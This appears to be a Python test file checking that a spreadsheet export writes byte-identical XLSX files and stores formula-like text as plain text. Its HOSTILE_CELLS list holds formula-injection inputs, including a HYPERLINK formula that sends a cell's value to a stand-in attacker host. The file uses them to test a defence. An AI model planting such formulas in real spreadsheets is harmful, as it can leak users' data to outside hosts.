"""XLSX bytes depend on the content only: no clock in the document properties or the zip entries."""

from __future__ import annotations

import io
import zipfile

from openpyxl import Workbook, load_workbook

from weike.builder.keeping.archive import FIXED_DATE_TIME
from weike.plugins.spreadsheets import FIXED_DOCUMENT_TIME, save_workbook, workbook_bytes


def make_workbook(rows):
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "微课清单"
    for row in rows:
        sheet.append(row)
    return workbook


def test_no_clock_in_the_package():
    data = workbook_bytes(make_workbook([("序号", "微课名称"), (1, "开机与关机")]))
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert package.namelist()[0] == "[Content_Types].xml"
        assert {info.date_time for info in package.infolist()} == {FIXED_DATE_TIME}
        core = package.read("docProps/core.xml").decode()
    stamp = FIXED_DOCUMENT_TIME.strftime("%Y-%m-%dT%H:%M:%SZ")
    assert core.count(stamp) == 2  # created and modified


def test_same_content_same_bytes_and_excel_readable(tmp_path):
    rows = [("序号", "微课名称", "时长（秒）"), (1, "开机与关机", 61.5), (2, "连接无线网", 300.0)]
    first = save_workbook(make_workbook(rows), tmp_path / "a.xlsx").read_bytes()
    second = workbook_bytes(make_workbook(rows))
    assert first == second
    assert workbook_bytes(make_workbook(rows[:2])) != first
    reread = load_workbook(tmp_path / "a.xlsx")
    assert [tuple(r) for r in reread["微课清单"].iter_rows(values_only=True)] == rows
    assert reread.properties.created == FIXED_DOCUMENT_TIME


#: Authored text that spreadsheet programs would run or read as a formula.
HOSTILE_CELLS = ("=1+1", '=HYPERLINK("http://evil.example/?q="&A1,"点击")', "+86-571", "-2+3", "@SUM(A1:A9)",
                 "\t=1+1", "\r=1+1")


def test_text_that_looks_like_a_formula_stays_text(tmp_path):
    rows = [("微课名称", "联系人"), *((text, text) for text in HOSTILE_CELLS)]
    save_workbook(make_workbook(rows), tmp_path / "hostile.xlsx")
    sheet = load_workbook(tmp_path / "hostile.xlsx")["微课清单"]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert [cell.value for cell in cells[::2]] == list(HOSTILE_CELLS)  # the text, unchanged
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.quotePrefix for cell in cells)  # Excel keeps it text even after an edit
    with zipfile.ZipFile(tmp_path / "hostile.xlsx") as package:
        assert "<f>" not in package.read("xl/worksheets/sheet1.xml").decode()


def _two_sheet_workbook():
    workbook = make_workbook([("序号", "微课名称", "时长（秒）"), (1, "=HYPERLINK(\"x\")", 61.25), (2, "<b>&amp;", None)])
    second = workbook.create_sheet("附件")
    second.append(("说明", "a\nb"))
    second.freeze_panes = "B2"
    second.auto_filter.ref = second.dimensions
    return workbook


def test_sheets_are_made_in_memory_with_the_bytes_openpyxl_writes(monkeypatch):
    """No temporary file per sheet, and the same package as openpyxl's own writer makes."""
    import openpyxl.worksheet._writer as sheet_writer
    from openpyxl.writer.excel import ExcelWriter

    from weike.builder.keeping.archive import ArchiveMember, zip_bytes
    from weike.plugins.spreadsheets import text_cells_only

    made = _two_sheet_workbook()
    text_cells_only(made)
    made.properties.created = made.properties.modified = FIXED_DOCUMENT_TIME
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w", zipfile.ZIP_DEFLATED) as package:
        ExcelWriter(made, package).write_data()
    with zipfile.ZipFile(raw) as package:
        expected = zip_bytes([ArchiveMember.from_bytes(i.filename, package.read(i)) for i in package.infolist()],
                             made=FIXED_DOCUMENT_TIME)

    temporary = []
    real = sheet_writer.create_temporary_file
    monkeypatch.setattr(sheet_writer, "create_temporary_file", lambda *a: temporary.append(1) or real(*a))
    assert workbook_bytes(_two_sheet_workbook()) == expected
    assert temporary == []
